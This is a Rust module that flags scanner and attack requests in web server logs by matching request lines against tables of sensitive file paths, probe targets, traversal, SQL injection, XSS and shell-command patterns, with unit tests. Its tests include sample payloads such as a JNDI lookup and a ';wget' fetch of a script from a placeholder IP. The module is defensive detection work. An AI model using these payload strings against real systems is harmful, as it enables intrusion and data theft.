//! Signs of a scanner in one request.
//!
//! [`scan`] looks at the request line alone. Some targets exist on honest sites too (`/wp-login.php`): such a finding counts only
//! where the server refused it, see [`Scan::holds`].

use std::borrow::Cow;
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};

use crate::path::is_asset;

/// How sure a finding is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Strength {
    /// No honest client asks for this.
    Certain,
    /// Honest where the site has it; a probe where the server says that it has not.
    IfRefused,
}

/// A sign of a scanner, and the rule that found it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Scan {
    /// `sensitive_path`, `probing_path`, `traversal`, `injection`, `shell`, `connect`, `absolute_uri`, `tls_bytes`,
    /// `other_protocol` or `odd_method`.
    pub rule: &'static str,
    /// How sure it is.
    pub strength: Strength,
}

impl Scan {
    /// Whether the finding counts, given the status answered (`None`: not logged).
    ///
    /// A weak finding counts only with 400, 403, 404, 410, 444 or 501, an odd method with 405 too. A 401 is how the site's own
    /// people begin to log in, a 405 how WordPress answers a GET to what it has, a 5xx may be the own page that is down.
    #[must_use]
    pub fn holds(&self, status: Option<i16>) -> bool {
        match self.strength {
            Strength::Certain => true,
            Strength::IfRefused => match status {
                Some(400 | 403 | 404 | 410 | 444 | 501) => true,
                Some(405) => self.rule == "odd_method",
                _ => false,
            },
        }
    }
}

/// Looks for a scanner's signs in one request; `None` when there are none.
///
/// `path` and `args` are as logged, percent-encoding included; escapes are undone, twice where they are nested.
/// `whole_request` is the request line where it could not be split into method, path and protocol.
///
/// ```
/// use floodmark_traffic::scan::scan;
///
/// assert_eq!(scan(Some("GET"), Some("/.env"), None, None).map(|found| found.rule), Some("sensitive_path"));
/// assert_eq!(scan(Some("GET"), Some("/search"), Some("q=select+a+union"), None), None);
/// ```
#[must_use]
pub fn scan(
    method: Option<&str>,
    path: Option<&str>,
    args: Option<&str>,
    whole_request: Option<&str>,
) -> Option<Scan> {
    let by_line = whole_request.and_then(scan_unsplit);
    let by_method = method.and_then(scan_method);
    let by_path = path.and_then(scan_path);
    let by_args = args.and_then(|args| PATTERNS_OF_ARGS.find(args, Plus::IsSpace));
    let found = [by_line, by_method, by_path, by_args];
    // The surest finding speaks; between equals, the one nearer the front of the line.
    found.into_iter().flatten().min_by_key(|scan| scan.strength)
}

fn scan_unsplit(request: &str) -> Option<Scan> {
    const TLS: [&str; 2] = ["\u{16}\u{3}", r"\x16\x03"];
    const OTHER: [&str; 13] = [
        "SSH-",
        "MGLNDD_",
        "\u{3}\0\0",
        r"\x03\x00\x00",
        "*1",
        "AUTH ",
        "EHLO ",
        "HELO ",
        "GNUTELLA",
        "{\"id\"",
        "{\"method\"",
        "OPTIONS sip:",
        "JRMI",
    ];
    if TLS.iter().any(|sign| request.starts_with(sign)) {
        return Some(Scan {
            rule: "tls_bytes",
            strength: Strength::Certain,
        });
    }
    if OTHER.iter().any(|sign| request.starts_with(sign)) {
        return Some(Scan {
            rule: "other_protocol",
            strength: Strength::Certain,
        });
    }
    PATTERNS_OF_PATHS.find(request, Plus::IsPlus)
}

fn scan_method(method: &str) -> Option<Scan> {
    match method {
        "CONNECT" => Some(Scan {
            rule: "connect",
            strength: Strength::Certain,
        }),
        "TRACE" | "TRACK" | "DEBUG" | "SEARCH" => Some(Scan {
            rule: "odd_method",
            strength: Strength::IfRefused,
        }),
        _ => None,
    }
}

fn scan_path(path: &str) -> Option<Scan> {
    let scheme = path
        .get(..7)
        .is_some_and(|head| head.eq_ignore_ascii_case("http://"))
        || path
            .get(..8)
            .is_some_and(|head| head.eq_ignore_ascii_case("https://"));
    if scheme {
        return Some(Scan {
            rule: "absolute_uri",
            strength: Strength::Certain,
        });
    }
    // A missing image below `/wp-content/` is a site's own broken link.
    PATTERNS_OF_PATHS
        .find(path, Plus::IsPlus)
        .filter(|found| found.strength == Strength::Certain || !is_asset(path))
}

/// What `+` stands for: a blank in arguments, itself in paths.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Plus {
    IsSpace,
    IsPlus,
}

struct Patterns {
    automaton: AhoCorasick,
    table: &'static [(&'static str, Scan)],
}

impl Patterns {
    fn new(table: &'static [(&'static str, Scan)]) -> Self {
        let automaton = AhoCorasick::builder()
            .match_kind(MatchKind::Standard)
            .ascii_case_insensitive(true)
            .kind(Some(AhoCorasickKind::DFA))
            .build(table.iter().map(|(pattern, _)| pattern))
            .expect("the table is small and constant");
        Self { automaton, table }
    }

    fn find(&self, text: &str, plus: Plus) -> Option<Scan> {
        let mut best = self.find_plain(text.as_bytes());
        let mut decoded = Cow::Borrowed(text.as_bytes());
        // Twice, because `%252e` is how a filter that decodes once is passed.
        for _ in 0..2 {
            match decode(&decoded, plus) {
                Some(further) => decoded = Cow::Owned(further),
                None => break,
            }
            best = [best, self.find_plain(&decoded)]
                .into_iter()
                .flatten()
                .min_by_key(|scan| scan.strength);
        }
        best
    }

    // The surest finding, and of those the one nearest the top of the table.
    fn find_plain(&self, text: &[u8]) -> Option<Scan> {
        if !self.automaton.is_match(text) {
            return None; // by far the most frequent answer, and a quicker search
        }
        let found = self
            .automaton
            .find_overlapping_iter(text)
            .map(|found| found.pattern().as_usize());
        let best = found.min_by_key(|&at| (self.table[at].1.strength, at))?;
        Some(self.table[best].1)
    }
}

// Only escapes of ASCII matter to the patterns: letters of other scripts (`%D9%85`) cost no decoding.
fn decode(text: &[u8], plus: Plus) -> Option<Vec<u8>> {
    let may_change = text.contains(&b'%') || (plus == Plus::IsSpace && text.contains(&b'+'));
    if !may_change {
        return None;
    }
    let escape = |at: usize| {
        text[at] == b'%'
            && text
                .get(at + 1)
                .is_some_and(|digit| (b'0'..=b'7').contains(digit))
    };
    let is_space = |byte: u8| byte == b'+' && plus == Plus::IsSpace;
    let first = (0..text.len()).find(|&at| escape(at) || is_space(text[at]))?;
    let mut out = Vec::with_capacity(text.len());
    out.extend_from_slice(&text[..first]);
    let mut at = first;
    let mut changed = false;
    while at < text.len() {
        let digits = text
            .get(at + 1..at + 3)
            .filter(|_| escape(at))
            .and_then(|digits| Some((hex(digits[0])?, hex(digits[1])?)));
        let (byte, length) = match digits {
            Some((high, low)) => (high * 16 + low, 3),
            None if is_space(text[at]) => (b' ', 1),
            None => (text[at], 1),
        };
        changed |= length == 3 || byte != text[at];
        // Runs of blanks count as one: `union  select` is `union select`.
        if !(byte == b' ' && out.last() == Some(&b' ')) {
            out.push(byte);
        }
        at += length;
    }
    changed.then_some(out)
}

fn hex(digit: u8) -> Option<u8> {
    match digit {
        b'0'..=b'9' => Some(digit - b'0'),
        b'a'..=b'f' => Some(digit - b'a' + 10),
        b'A'..=b'F' => Some(digit - b'A' + 10),
        _ => None,
    }
}

static PATTERNS_OF_PATHS: LazyLock<Patterns> = LazyLock::new(|| Patterns::new(PATHS));
static PATTERNS_OF_ARGS: LazyLock<Patterns> = LazyLock::new(|| Patterns::new(ARGS));

const SENSITIVE: Scan = Scan {
    rule: "sensitive_path",
    strength: Strength::Certain,
};
const SENSITIVE_IF: Scan = Scan {
    rule: "sensitive_path",
    strength: Strength::IfRefused,
};
const PROBING: Scan = Scan {
    rule: "probing_path",
    strength: Strength::Certain,
};
const PROBING_IF: Scan = Scan {
    rule: "probing_path",
    strength: Strength::IfRefused,
};
const TRAVERSAL: Scan = Scan {
    rule: "traversal",
    strength: Strength::Certain,
};
const TRAVERSAL_IF: Scan = Scan {
    rule: "traversal",
    strength: Strength::IfRefused,
};
const INJECTION: Scan = Scan {
    rule: "injection",
    strength: Strength::Certain,
};
const SHELL: Scan = Scan {
    rule: "shell",
    strength: Strength::Certain,
};

#[rustfmt::skip]
const PATHS: &[(&str, Scan)] = &[
    // Files that hold secrets or tell a site's make-up, and that no page links to.
    ("/.env", SENSITIVE), ("/.git/", SENSITIVE), ("/.gitconfig", SENSITIVE), ("/.git-credentials", SENSITIVE), ("/.svn/", SENSITIVE), ("/.hg/", SENSITIVE),
    ("/.bzr/", SENSITIVE), ("/.aws/", SENSITIVE), ("/.ssh/", SENSITIVE), ("/.docker/", SENSITIVE), ("/.kube/", SENSITIVE), ("/.npmrc", SENSITIVE),
    ("/.htpasswd", SENSITIVE), ("/.htaccess", SENSITIVE), ("/.ds_store", SENSITIVE), ("/.vscode/", SENSITIVE), ("/.idea/", SENSITIVE),
    ("/.bash_history", SENSITIVE), ("/.mysql_history", SENSITIVE), ("/.config/", SENSITIVE_IF), ("/.boto", SENSITIVE), ("/.s3cfg", SENSITIVE), ("/.netrc", SENSITIVE),
    ("/.pgpass", SENSITIVE), ("/.travis.yml", SENSITIVE), ("/.circleci/", SENSITIVE), ("/.gitlab-ci", SENSITIVE), ("/id_rsa", SENSITIVE), ("/id_dsa", SENSITIVE),
    ("/id_ed25519", SENSITIVE), ("/etc/passwd", SENSITIVE), ("/etc/shadow", SENSITIVE), ("/etc/hosts", SENSITIVE), ("/proc/self/", SENSITIVE), ("/wp-config.", SENSITIVE),
    ("/wp-config-", SENSITIVE), ("/wp-config_", SENSITIVE), ("config.php.bak", SENSITIVE), ("config.php~", SENSITIVE), (".php.swp", SENSITIVE), (".php.old", SENSITIVE), (".php.save", SENSITIVE),
    ("/web.config", SENSITIVE_IF), ("/appsettings.json", SENSITIVE_IF), ("/secrets.", SENSITIVE_IF), ("/docker-compose.y", SENSITIVE), ("/dockerfile", SENSITIVE_IF),
    ("/database.yml", SENSITIVE), ("/config.yml", SENSITIVE_IF), ("/config.yaml", SENSITIVE_IF), ("/config.env", SENSITIVE), ("/settings.py", SENSITIVE),
    ("/local_settings.py", SENSITIVE), ("/composer.lock", SENSITIVE_IF), ("/backup.sql", SENSITIVE), ("/backup.zip", SENSITIVE_IF), ("/backup.tar", SENSITIVE_IF), ("/dump.sql", SENSITIVE), ("/db.sql", SENSITIVE),
    ("/database.sql", SENSITIVE), (".sql.gz", SENSITIVE_IF), ("/server.key", SENSITIVE), ("/privatekey.", SENSITIVE), ("/private.key", SENSITIVE), ("/sftp-config.json", SENSITIVE), ("/sftp.json", SENSITIVE),
    ("/phpinfo", SENSITIVE_IF), ("/info.php", SENSITIVE_IF), ("/server-status", SENSITIVE_IF), ("/server-info", SENSITIVE_IF), ("/latest/meta-data", SENSITIVE), ("/computemetadata/", SENSITIVE),

    // Doors of widely spread programs.
    ("/phpmyadmin", PROBING_IF), ("/pma/", PROBING_IF), ("/myadmin", PROBING_IF), ("/mysqladmin", PROBING_IF), ("/dbadmin", PROBING_IF), ("/adminer.php", PROBING_IF), ("/sqlite/main.php", PROBING),
    ("/wp-login", PROBING_IF), ("/wp-admin", PROBING_IF), ("/wp-includes/", PROBING_IF), ("/wp-content/", PROBING_IF), ("/wp-json/wp/v2/users", PROBING_IF), ("/wlwmanifest.xml", PROBING_IF), ("/xmlrpc.php", PROBING_IF),
    ("/wordpress/wp-", PROBING_IF), ("/administrator/", PROBING_IF), ("/user/register", PROBING_IF), ("/cgi-bin/", PROBING_IF), ("/cgi-bin/luci", PROBING), ("/boaform/", PROBING), ("/goform/", PROBING), ("/hnap1", PROBING),
    ("/gponform/", PROBING), ("/setup.cgi", PROBING), ("/nice%20ports", PROBING), ("/nice ports", PROBING), ("/solr/admin", PROBING_IF), ("/_ignition/", PROBING), ("/vendor/phpunit", PROBING),
    ("eval-stdin.php", PROBING), ("/telescope/requests", PROBING_IF), ("/_profiler/", PROBING_IF), ("/actuator/env", PROBING_IF), ("/actuator/heapdump", PROBING_IF), ("/actuator/gateway", PROBING_IF), ("/jolokia", PROBING_IF),
    ("/manager/html", PROBING_IF), ("/manager/text", PROBING_IF), ("/host-manager/", PROBING_IF), ("/jmx-console", PROBING_IF), ("/invoker/", PROBING_IF), ("/hudson/", PROBING_IF), ("/jenkins/", PROBING_IF), ("/druid/index", PROBING_IF), ("/nacos/", PROBING_IF),
    ("/owa/auth", PROBING_IF), ("/ecp/", PROBING_IF), ("/autodiscover/autodiscover", PROBING_IF), ("/aspnet_client", PROBING_IF), ("/_vti_bin", PROBING_IF), ("/_layouts/", PROBING_IF), ("/remote/login", PROBING_IF), ("/remote/fgt_lang", PROBING),
    ("/dana-na/", PROBING), ("/dana-cached/", PROBING), ("/global-protect/", PROBING_IF), ("/+cscoe+/", PROBING_IF), ("/+cscot+/", PROBING_IF), ("/vpn/../", PROBING), ("/vpns/", PROBING), ("/sslvpn", PROBING_IF), ("/webfig/", PROBING_IF),
    ("/hikvision", PROBING_IF), ("/sdk/weblanguage", PROBING), ("/onvif/", PROBING_IF), ("/portal/redlion", PROBING), ("/evox/about", PROBING), ("/currentsetting.htm", PROBING), ("/stalker_portal/", PROBING_IF), ("/streaming/clients_live.php", PROBING),
    ("/api/jsonws/invoke", PROBING), ("/console/login/loginform.jsp", PROBING_IF), ("/wls-wsat/", PROBING), ("/_async/", PROBING_IF), ("/geoserver/", PROBING_IF), ("/.well-known/security.php", PROBING),
    ("/c99.php", PROBING), ("/r57.php", PROBING), ("/shell.php", PROBING), ("/webshell", PROBING), ("/alfa.php", PROBING), ("/alfacgiapi", PROBING), ("/wso.php", PROBING), ("/fm.php", PROBING_IF), ("/filemanager.php", PROBING_IF), ("/upload.php", PROBING_IF),
    ("/ioxi", PROBING), ("/radio.php", PROBING_IF), ("/about.php7", PROBING), ("/xleet", PROBING), ("/fckeditor/", PROBING_IF), ("/kcfinder/", PROBING_IF), ("/elfinder/", PROBING_IF), ("/magmi/", PROBING), ("/downloader/index.php", PROBING_IF),
    ("/bitrix/admin", PROBING_IF), ("/typo3/", PROBING_IF), ("/umbraco/", PROBING_IF), ("/sitecore/", PROBING_IF), ("/cfide/", PROBING_IF), ("/joomla/", PROBING_IF), ("/drupal/", PROBING_IF), ("/roundcube/", PROBING_IF), ("/webmail/", PROBING_IF),
    ("/kibana/", PROBING_IF), ("/grafana/", PROBING_IF), ("/zabbix/", PROBING_IF), ("/nagios/", PROBING_IF), ("/cacti/", PROBING_IF), ("/_cat/indices", PROBING_IF), ("/v2/_catalog", PROBING_IF), ("/containers/json", PROBING), ("/api/v1/pods", PROBING_IF),
    ("/setup.php", PROBING_IF), ("/install.php", PROBING_IF), ("/config.php", PROBING_IF), ("/test.php", PROBING_IF), ("/admin.php", PROBING_IF), ("/login.action", PROBING_IF), ("/azenv.php", PROBING),

    // Leaving the document root.
    ("/../../", TRAVERSAL), ("\\..\\", TRAVERSAL), ("/..;/", TRAVERSAL), ("/.%2e/", TRAVERSAL), ("/%2e./", TRAVERSAL), ("%2e%2e/", TRAVERSAL), ("..%2f", TRAVERSAL), ("..%5c", TRAVERSAL), ("%c0%ae", TRAVERSAL), ("%c0%af", TRAVERSAL), ("/../", TRAVERSAL_IF),

    // Code where a name should be.
    ("<script", INJECTION), ("${jndi:", INJECTION), ("${${", INJECTION), ("union select", INJECTION), ("union all select", INJECTION), ("/bin/sh", SHELL), ("/bin/bash", SHELL), (";wget ", SHELL), (";curl ", SHELL), ("$(wget", SHELL), ("$(curl", SHELL), ("`wget", SHELL),
    ("think\\app/invokefunction", SHELL), ("\u{0}", INJECTION),
];

#[rustfmt::skip]
const ARGS: &[(&str, Scan)] = &[
    ("../../", TRAVERSAL), ("..\\..\\", TRAVERSAL), ("/etc/passwd", TRAVERSAL), ("/etc/shadow", TRAVERSAL), ("/proc/self/", TRAVERSAL), ("win.ini", TRAVERSAL), ("boot.ini", TRAVERSAL), ("wp-config.php", TRAVERSAL), ("%c0%ae", TRAVERSAL), ("file:///", TRAVERSAL),
    ("union select", INJECTION), ("union all select", INJECTION), ("union/**/", INJECTION), ("/**/select", INJECTION), ("information_schema", INJECTION), ("' or '1'='1", INJECTION), ("' or 1=1", INJECTION), ("\" or 1=1", INJECTION), (" or 1=1--", INJECTION),
    ("' and 1=1", INJECTION), ("' and '1'='1", INJECTION), (" and 1=1--", INJECTION), ("sleep(", INJECTION), ("benchmark(", INJECTION), ("pg_sleep", INJECTION), ("waitfor delay", INJECTION), ("extractvalue(", INJECTION), ("updatexml(", INJECTION),
    ("load_file(", INJECTION), ("into outfile", INJECTION), ("into dumpfile", INJECTION), ("concat(0x", INJECTION), ("xp_cmdshell", INJECTION), ("dbms_pipe", INJECTION), ("order by 1--", INJECTION), ("; drop table", INJECTION), (";drop table", INJECTION),
    ("<script", INJECTION), ("</script", INJECTION), ("javascript:alert", INJECTION), ("onerror=", INJECTION), ("onload=alert", INJECTION), ("<svg/onload", INJECTION), ("<svg onload", INJECTION), ("<img src=x", INJECTION), ("alert(document", INJECTION), ("alert(1)", INJECTION),
    ("${jndi:", INJECTION), ("${${", INJECTION), ("{{7*7}}", INJECTION), ("${7*7}", INJECTION), ("<!entity", INJECTION), ("<!--#exec", INJECTION), ("php://", INJECTION), ("expect://", INJECTION), ("phar://", INJECTION), ("data://text", INJECTION),
    ("auto_prepend_file", INJECTION), ("allow_url_include", INJECTION), ("xdebug_session_start", INJECTION), ("call_user_func", INJECTION), ("invokefunction", INJECTION), ("base64_decode(", INJECTION), ("class.module.classloader", INJECTION), ("java.lang.runtime", INJECTION),
    ("/bin/sh", SHELL), ("/bin/bash", SHELL), (";wget ", SHELL), ("; wget ", SHELL), (";curl ", SHELL), ("; curl ", SHELL), ("|wget ", SHELL), ("| wget ", SHELL), ("$(wget", SHELL), ("$(curl", SHELL), ("`wget", SHELL), ("`curl", SHELL), ("wget http", SHELL), ("cd /tmp", SHELL),
    (";cat /", SHELL), ("; cat /", SHELL), ("|cat /", SHELL), ("| cat /", SHELL), ("$(id)", SHELL), ("`id`", SHELL), ("|id", SHELL), (";id;", SHELL), ("cmd.exe", SHELL), ("powershell", SHELL), ("chmod 777", SHELL), ("chmod +x", SHELL), ("system(", SHELL), ("passthru(", SHELL), ("shell_exec", SHELL),
];

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[track_caller]
    fn check(method: &str, uri: &str, status: i16, expected: Option<&str>) {
        let (path, args) = uri
            .split_once('?')
            .map_or((uri, None), |(path, args)| (path, Some(args)));
        let found =
            scan(Some(method), Some(path), args, None).filter(|scan| scan.holds(Some(status)));
        assert_eq!(
            found.map(|scan| scan.rule),
            expected,
            "{method} {uri} {status}"
        );
    }

    #[test]
    fn scanners_are_found_by_what_they_ask_for() {
        check("GET", "/.env", 404, Some("sensitive_path"));
        check("GET", "/app/.git/config", 403, Some("sensitive_path"));
        check("GET", "/%2eenv", 404, Some("sensitive_path"));
        check("GET", "/.%65nv", 200, Some("sensitive_path"));
        check("GET", "/wp-login.php", 404, Some("probing_path"));
        check(
            "POST",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            404,
            Some("probing_path"),
        );
        check(
            "GET",
            "/static/../../../etc/passwd",
            400,
            Some("sensitive_path"),
        );
        check("GET", "/a/%252e%252e/%252e%252e/b", 400, Some("traversal"));
        check(
            "GET",
            "/download?file=..%2f..%2f..%2fetc%2fhosts",
            200,
            Some("traversal"),
        );
        check(
            "GET",
            "/item?id=1+UNION+ALL+SELECT+NULL--",
            200,
            Some("injection"),
        );
        check(
            "GET",
            "/item?id=1%20union%20%20select%201",
            200,
            Some("injection"),
        );
        check(
            "GET",
            "/item?id=%3Cscript%3Ealert(1)%3C/script%3E",
            200,
            Some("injection"),
        );
        check(
            "GET",
            "/?x=${jndi:ldap://203.0.113.9/a}",
            200,
            Some("injection"),
        );
        check(
            "GET",
            "/cgi?a=;wget+http://203.0.113.9/m.sh",
            404,
            Some("shell"),
        );
        check("CONNECT", "203.0.113.9:443", 400, Some("connect"));
        check("GET", "http://203.0.113.9/", 404, Some("absolute_uri"));
        check("TRACE", "/", 405, Some("odd_method"));
    }

    #[test]
    fn what_a_site_serves_is_not_probing() {
        check("GET", "/wp-login.php", 200, None);
        check("POST", "/wp-admin/admin-ajax.php", 502, None);
        check("GET", "/wp-content/themes/a/style.css", 304, None);
        check("PROPFIND", "/dav/", 405, None);
        check("GET", "/wp-content/uploads/2026/11/a.jpg", 404, None);
        check("GET", "/wp-admin/", 401, None);
    }

    #[test]
    fn honest_requests_are_left_alone() {
        for uri in [
            "/",
            "/index.html",
            "/.well-known/acme-challenge/abc",
            "/robots.txt",
            "/search?q=how+to+union+two+tables",
            "/search?q=100%25+cotton",
            "/filter/27|13%20%D9%85%DA%AF,27",
            "/environment",
            "/a..b/c",
            "/product/12?ref=a%2Fb%2Fc&utm_source=x",
            "/api/v1/items?sort=-created&page=2",
            "/img/a%20b.png",
            "/git/",
            "/login",
            "/admin",
            "/?redirect=https%3A%2F%2Fexample.org%2Fa",
            "*",
        ] {
            check("GET", uri, 404, None);
        }
    }

    #[test]
    fn other_protocols_are_told_by_their_first_bytes() {
        let rule = |request| scan(None, None, None, Some(request)).map(|scan| scan.rule);
        assert_eq!(rule("\u{16}\u{3}\u{1}\u{2}\0"), Some("tls_bytes"));
        assert_eq!(rule(r"\x16\x03\x01"), Some("tls_bytes"));
        assert_eq!(rule("SSH-2.0-Go"), Some("other_protocol"));
        assert_eq!(rule(""), None);
        assert_eq!(rule("PRI * HTTP/2.0"), None);
    }

    #[test]
    fn a_null_byte_in_a_path_is_an_injection() {
        check("GET", "/a%00.php", 404, Some("injection"));
    }

    proptest! {
        #[test]
        fn any_text_is_judged_without_panic(path in ".{0,60}", args in ".{0,60}", request in ".{0,20}") {
            let _ = scan(Some("GET"), Some(&path), Some(&args), Some(&request));
        }

        #[test]
        fn escaping_a_letter_changes_nothing(at in 1usize..5) {
            let plain = "/.env";
            let escaped: String = plain
                .bytes()
                .enumerate()
                .map(|(index, byte)| if index == at { format!("%{byte:02x}") } else { char::from(byte).to_string() })
                .collect();
            prop_assert_eq!(scan(None, Some(&escaped), None, None), scan(None, Some(plain), None, None));
        }
    }
}
